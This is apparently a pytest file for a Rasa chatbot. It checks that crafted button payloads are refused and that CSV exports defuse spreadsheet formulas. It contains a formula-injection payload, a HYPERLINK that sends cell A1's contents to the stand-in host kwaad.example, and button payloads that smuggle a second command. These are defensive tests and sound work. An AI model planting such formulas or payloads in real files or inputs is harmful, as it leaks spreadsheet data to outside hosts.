"""Button payloads and CSV cells (issue 15, item 12).

A button payload comes from the browser and Rasa obeys it as an intent with
entities, so only what the domain's own buttons send is handed to Rasa; and
every CSV the product writes defuses cells a spreadsheet would run as a formula.
Unit tables on the real domain, then the real server end to end.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import datetime, timezone

import pytest
from rasa.shared.core.domain import Domain

from bot.advice import AUDIENCES, load_library
from bot.channel.payloads import check_payload, rules_of
from bot.channel.protocol import ERRORS, ProtocolError
from bot.review.csv_cells import safe_cell
from bot.review.service import ReviewService
from bot.store.review import AdviceRecord
from tests.conftest import ROOT
from tests.support.server import Chat, conversation_of
from tests.support.staff import staff

FORMULA = '=HYPERLINK("https://kwaad.example/?"&A1;"klik")'


@pytest.fixture(scope="module")
def rules():
    return rules_of(Domain.load(str(ROOT / "data" / "domain")))


def _domain_payloads() -> list[str]:
    domain = Domain.load(str(ROOT / "data" / "domain"))
    payloads = {
        button["payload"]
        for variations in domain.responses.values()
        for variation in variations
        for button in variation.get("buttons") or []
    }
    # The topic choice the advice action builds when it is unsure.
    library = load_library(ROOT / "data" / "advice")
    payloads |= {f"/faq/{topic}" for topic in library.topics}
    return sorted(payloads)


@pytest.mark.parametrize("payload", _domain_payloads())
def test_every_button_the_assistant_offers_is_accepted(rules, payload):
    assert check_payload(payload, rules) == payload


@pytest.mark.parametrize(
    "payload",
    [
        "/restart",  # Rasa's own commands are no answer a button offers
        "/session_start",
        "/back",
        "/nlu_fallback",
        "/bestaat_niet",
        "/faq/bestaat_niet",
        "faq/meldcode",  # no slash: typed text, not a button
        "/affirm@0.99",  # a confidence
        "/affirm{}",
        '/inform_audience{"audience": "' + FORMULA.replace('"', "'") + '"}',
        '/inform_audience{"audience": "iedereen"}',  # not a value of the slot
        '/inform_audience{"audience": ["zelf"]}',
        '/inform_audience{"audience": 1}',
        '/inform_audience{"onbekend": "zelf"}',
        '/inform_audience{"audience": "zelf"',
        '/inform_audience{"audience": "zelf"}/restart',
        "/inform_audience[]",
    ],
)
def test_anything_else_is_refused(rules, payload):
    with pytest.raises(ProtocolError) as refused:
        check_payload(payload, rules)
    assert refused.value.code == "unknown_button"
    assert refused.value.frame()["text"] == ERRORS["unknown_button"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+31612345678", "'+31612345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("zelf", "zelf"),
        ("a=b", "a=b"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_spreadsheet_formulas_are_defused(value, cell):
    assert safe_cell(value) == cell


def test_the_advice_csv_holds_no_formula():
    record = AdviceRecord(
        conversation_id="c-1",
        topic="meldcode",
        danger_level="geen",
        given_by="bot",
        channel="@website",
        given_at=datetime(2026, 12, 1, tzinfo=timezone.utc),
        advice_id="meldcode",
        advice_version=2,
        audience=FORMULA,
    )
    rows = list(csv.DictReader(io.StringIO(ReviewService.advice_csv([record]))))
    assert rows[0]["audience"] == "'" + FORMULA
    assert rows[0]["channel"] == "'@website"
    assert (rows[0]["topic"], rows[0]["advice_version"]) == ("meldcode", "2")


@pytest.mark.slow
async def test_a_crafted_button_is_refused_and_never_reaches_rasa(chat_server):
    marker = f"knop{uuid.uuid4().hex[:8]}"
    crafted = [
        '/inform_audience{"audience": ' + json.dumps(FORMULA) + "}",
        f"/{marker}",
        "/restart",
    ]
    async with Chat(chat_server.ws_url) as chat:
        token = await chat.hello()
        await chat.say("hallo")
        for payload in crafted:
            (refused,) = await chat.say(payload, "button")
            assert refused["type"] == "error" and refused["code"] == "unknown_button"
            assert refused["text"] == ERRORS["unknown_button"]
        # The chat goes on, and a real button still works.
        answer = await chat.say("/faq/meldcode", "button")
        assert answer and answer[0]["type"] == "message"
        cid = conversation_of(chat_server, token)
    async with Chat(chat_server.ws_url) as chat:
        await chat.hello(token)
    said = [m["text"] for m in chat.history or [] if m["from"] == "user"]
    assert said == ["hallo", "/faq/meldcode"]  # titles: the payload is the title here
    assert marker not in chat_server.log_text()

    # The advice the real button gave is exported without the crafted audience.
    rita = staff(chat_server, "rita")
    day = datetime.now(timezone.utc).date().isoformat()
    status, raw = rita.request(
        "GET", f"/api/advice-records.csv?from={day}&to={day}", raw=True
    )
    assert status == 200
    rows = [
        r
        for r in csv.DictReader(io.StringIO(raw.decode("utf-8")))
        if r["conversation_id"] == cid
    ]
    assert [r["topic"] for r in rows] == ["meldcode"]
    # The audience is the one the advice was chosen for (from the chat text
    # here), never the crafted value.
    assert rows[0]["audience"] in {"", *AUDIENCES}
    assert "HYPERLINK" not in raw.decode("utf-8")
